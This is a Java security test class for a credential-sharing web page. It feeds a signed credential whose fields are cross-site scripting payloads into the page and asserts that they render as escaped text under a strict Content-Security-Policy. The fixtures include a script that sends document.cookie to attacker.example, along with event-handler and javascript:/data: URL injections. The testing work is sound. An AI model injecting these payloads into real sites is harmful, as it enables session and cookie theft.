package nl.learnerwallet.server.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import jakarta.inject.Inject;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import nl.learnerwallet.server.support.SharingLearner;
import nl.learnerwallet.server.support.TemporaryDatabase;
import nl.learnerwallet.testsupport.DutchCredentials;
import nl.learnerwallet.testsupport.TestIssuer;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * Attack catalogue, the share page: a genuine credential from a trusted issuer whose every text
 * field is markup (a script, an event handler, javascript: and data: links, a closing tag) and
 * whose image and criteria are javascript: URLs is shown as text, never as something active; the
 * page loads nothing from elsewhere and sends no Referer, so its token never leaves it.
 */
@MicronautTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class PageAttacksTest implements TemporaryDatabase {

    private static final TestIssuer ISSUER = TestIssuer.es256();
    private static final String SCRIPT = "<script>fetch('https://attacker.example/'+document.cookie)</script>";
    private static final String HANDLER = "\"><img src=x onerror=alert(1)>";
    private static final String LINK = "<a href=\"javascript:alert(1)\">open</a>";

    @Inject
    EmbeddedServer server;

    private SharingLearner learner;
    private SharingLearner.Share share;
    private HttpResponse<byte[]> page;
    private String html;

    @Override
    public Map<String, String> extraProperties() {
        try {
            Path trust = Files.createTempFile("trust", ".json");
            Files.writeString(trust, "{\"entries\":[{\"id\":\"" + ISSUER.did() + "\",\"name\":\"" + SCRIPT.replace("\"", "\\\"")
                    + "\",\"source\":\"test\"}]}");
            Map<String, String> properties = new HashMap<>();
            properties.put("wallet.trust-list", trust.toString());
            return properties;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @BeforeAll
    void shareAHostileCredential() {
        learner = new SharingLearner(server.getURI());
        share = learner.create();
        assertThat(learner.upload(share, share.token(), List.of(hostileCredential())).statusCode()).isEqualTo(200);
        page = learner.page("/s/" + share.token());
        assertThat(page.statusCode()).isEqualTo(200);
        html = new String(page.body(), StandardCharsets.UTF_8);
    }

    /** Every text field markup, the image, criteria and evidence javascript: and data: URLs. */
    private String hostileCredential() {
        ObjectNode payload = DutchCredentials.of(DutchCredentials.Shape.HBO_MICROCREDENTIAL, ISSUER)
                .toHolder(learner.holder.did()).payload();
        ObjectNode vc = (ObjectNode) payload.get("vc");
        vc.put("name", SCRIPT);
        ObjectNode achievement = (ObjectNode) vc.path("credentialSubject").path("achievement");
        achievement.put("name", SCRIPT + HANDLER);
        achievement.put("description", LINK + "</p></main><script>alert(2)</script>");
        achievement.putObject("image").put("id", "javascript:alert(3)").put("type", "Image");
        achievement.putObject("criteria").put("id", "javascript:alert(4)").put("narrative", HANDLER);
        ArrayNode outcomes = achievement.putArray("learningOutcomes");
        outcomes.add("</li><script>alert(5)</script>").add("<svg onload=alert(6)>");
        vc.putArray("evidence").addObject().put("id", "data:text/html,<script>alert(7)</script>").put("name", LINK);
        return ISSUER.sign(payload);
    }

    @Test
    void theCredentialIsShownAndGenuine() {
        assertThat(html).contains("&lt;script&gt;fetch(").contains("verdict");
    }

    @Test
    void noScriptElement() {
        assertThat(html.toLowerCase()).doesNotContain("<script");
    }

    @Test
    void noEventHandlerAttribute() {
        assertThat(Pattern.compile("<[^>]*\\son[a-z]+\\s*=", Pattern.CASE_INSENSITIVE).matcher(html).find()).isFalse();
    }

    @Test
    void noActiveElementsFromTheCredential() {
        for (String tag : new String[] {"<img", "<svg", "<iframe", "<object", "<embed", "<form", "<base", "<meta http-equiv"}) {
            assertThat(html.toLowerCase()).as(tag).doesNotContain(tag);
        }
    }

    /** Links and resources are the page's own: relative, never javascript:, data: or another origin. */
    @Test
    void everyLinkIsThePagesOwn() {
        Matcher urls = Pattern.compile("(?:href|src|action|formaction)\\s*=\\s*\"([^\"]*)\"", Pattern.CASE_INSENSITIVE).matcher(html);
        int links = 0;
        while (urls.find()) {
            links++;
            assertThat(urls.group(1)).as("a link on the page").matches("(/|\\?|#)[^:]*");
        }
        assertThat(links).isPositive();
    }

    @Test
    void aPolicyThatWouldStopAScriptThatGotThrough() {
        String csp = page.headers().firstValue("Content-Security-Policy").orElse("");
        assertThat(csp).contains("default-src 'none'").contains("base-uri 'none'").contains("form-action 'none'")
                .contains("frame-ancestors 'none'").doesNotContain("unsafe-inline").doesNotContain("unsafe-eval")
                .doesNotContain("script-src");
        assertThat(page.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(page.headers().firstValue("Content-Type").orElse("")).startsWith("text/html");
    }

    /** The token is in the URL: no Referer may carry it, and nothing is cached on the way. */
    @Test
    void theTokenLeavesInNoRefererAndNoCache() {
        assertThat(page.headers().firstValue("Referrer-Policy")).hasValue("no-referrer");
        assertThat(page.headers().firstValue("Cache-Control")).hasValue("no-store");
        HttpResponse<byte[]> raw = learner.page("/s/" + share.token() + "/presentation");
        assertThat(raw.headers().firstValue("Referrer-Policy")).hasValue("no-referrer");
        assertThat(raw.headers().firstValue("Content-Type").orElse("")).startsWith("application/vp+jwt");
    }

    /** The JSON view is JSON, never sniffed as HTML. */
    @Test
    void theJsonViewIsNotHtml() {
        HttpResponse<byte[]> json = nl.learnerwallet.server.support.TestAccount.send(java.net.http.HttpRequest.newBuilder(
                server.getURI().resolve("/s/" + share.token())).header("Accept", "application/json").GET());
        assertThat(json.headers().firstValue("Content-Type").orElse("")).startsWith("application/json");
        assertThat(json.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(SharingLearner.json(json).path("credentials").get(0).path("card").path("title").asText()).contains("<script>");
    }
}
